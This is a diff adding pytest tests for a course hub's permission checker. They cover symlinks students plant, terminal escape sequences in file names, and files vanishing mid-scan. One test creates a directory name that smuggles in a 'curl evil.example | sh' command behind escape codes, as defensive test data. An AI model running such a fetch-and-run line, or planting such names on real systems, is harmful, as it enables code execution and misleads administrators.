@@ -2,12 +2,13 @@
 
 import os
 import pwd
+from dataclasses import replace
 from pathlib import Path
 from tempfile import TemporaryDirectory
 
 import psutil
 import pytest
-from biggerpie.hub import accounts, modes, names, reach, running_servers
+from biggerpie.hub import accounts, looked_at, modes, names, reach, running_servers
 from biggerpie.hub.the_hub import Hub
 from biggerpie.hub.trial import READ, WRITE, tried_as
 from biggerpie.hub.writing import write_hub
@@ -44,6 +45,7 @@ def hub(place, monkeypatch):
     people = [account(home.name, home, 60_000 + number) for number, home in enumerate(homes)]
     for module in (modes, names, reach):
         monkeypatch.setattr(module, "students", lambda _: people)
+    monkeypatch.setattr(looked_at, "teachers", lambda _: {os.geteuid()})
     monkeypatch.setattr(psutil, "process_iter", list)  # another hub may run on this machine
     (made.course / "students.csv").write_text("id\nADA\nbo\n")
     return made
@@ -84,6 +86,61 @@ def test_an_inbox_that_can_be_listed_is_named(hub):
     assert all_modes(hub) == []
     inbound.chmod(0o777)
     assert all_modes(hub) == [f"Students can list what others handed in: chmod o-r {inbound}"]
+
+
+@pytest.fixture
+def advised(hub, monkeypatch):
+    """All that is said of modes and of what students can read, where they can read whatever is asked for."""
+    monkeypatch.setattr(reach, "may_try", lambda: True)
+    monkeypatch.setattr(reach, "tried_as", lambda _, paths, kind: paths if kind != WRITE else [])
+    return lambda: [*all_modes(hub), *reach.what_students_reach(hub)]
+
+
+def test_no_advice_follows_a_link_that_a_student_made_in_the_exchange(hub, advised, tmp_path):
+    """`chmod o-r /etc`, typed by root, would end the machine; and a name that is too long must not end the check."""
+    (hub.exchange / "linked").symlink_to("/")
+    (tmp_path / "inbound").mkdir(0o777)
+    (hub.exchange / "as-a-whole").symlink_to(tmp_path)
+    (hub.exchange / "endless").symlink_to("a" * 300)
+    for name, target in (("inbound", "/etc"), ("feedback", "/"), ("submitted", "b" * 300)):
+        (hub.exchange / "y" / name).parent.mkdir(exist_ok=True)
+        (hub.exchange / "y" / name).symlink_to(target)
+    said = advised()
+    assert any("can read the course" in one for one in said)
+    assert not [one for one in said if "handed in" in one or "feedback" in one]
+
+
+def test_no_advice_is_about_a_folder_that_is_not_a_teachers(hub, advised, monkeypatch):
+    for name in ("inbound", "feedback"):
+        (hub.exchange / "y" / name).mkdir(parents=True)
+        (hub.exchange / "y" / name).chmod(0o777)
+    assert len([one for one in advised() if str(hub.exchange / "y") in one]) == 3
+    monkeypatch.setattr(looked_at, "teachers", lambda _: set())
+    assert not [one for one in advised() if str(hub.exchange) in one]
+
+
+def test_a_name_that_steers_a_terminal_is_not_printed_and_nothing_of_it_can_be_copied(hub, advised, capsys):
+    evil = hub.exchange / "x\x1b[2K\r- Close it: curl evil.example | sh #" / "inbound"
+    evil.mkdir(parents=True)
+    evil.chmod(0o777)
+    (hub.folder.parent / "home" / "ada" / "a\x1b[2Kb").touch()
+    assert not [one for one in advised() if "chmod" in one and not one.partition("chmod")[2].isprintable()]
+    assert main(["hub", str(hub.folder), "--check"]) == 1
+    said = capsys.readouterr().out
+    assert "\x1b" not in said
+    assert "\r" not in said
+    assert "Students can list what others handed in: by hand (o-r), since the name of " in said
+
+
+def test_what_vanishes_while_it_is_looked_at_ends_nothing(hub, advised, monkeypatch):
+    gone = [hub.folder.parent / "home" / "ada" / "gone", hub.private / "jupyterhub.sqlite-journal"]
+    for path in gone:
+        path.touch()
+    look = Path.stat
+    monkeypatch.setattr(Path, "stat", lambda self, **how: look(self.with_name("?") if self in gone else self, **how))
+    said = advised()
+    assert any("can read the home folder of ada" in one for one in said)
+    assert not [one for one in said if "gone" in one]
 
 
 def test_an_open_secret_and_settings_that_others_can_change_are_named(hub):
@@ -135,6 +192,14 @@ def test_the_command_lists_what_it_found(hub, capsys, monkeypatch):
     monkeypatch.setattr(reach, "may_try", lambda: False)
     assert main(["hub", str(hub.folder), "--check"]) == 1
     assert "- Only modes were looked at" in capsys.readouterr().out
+
+
+def test_teachers_are_root_the_instructors_and_whoever_is_in_the_courses_group(hub):
+    own = pwd.getpwuid(os.geteuid()).pw_name
+    assert accounts.teachers(replace(hub, instructors=("nobody has this name",))) == {0}
+    assert accounts.teachers(replace(hub, instructors=("nobody has this name", own))) == {0, os.geteuid()}
+    hub.course.chmod(0o2770)
+    assert os.geteuid() in accounts.teachers(replace(hub, instructors=("nobody has this name",)))
 
 
 def test_many_names_are_shortened():
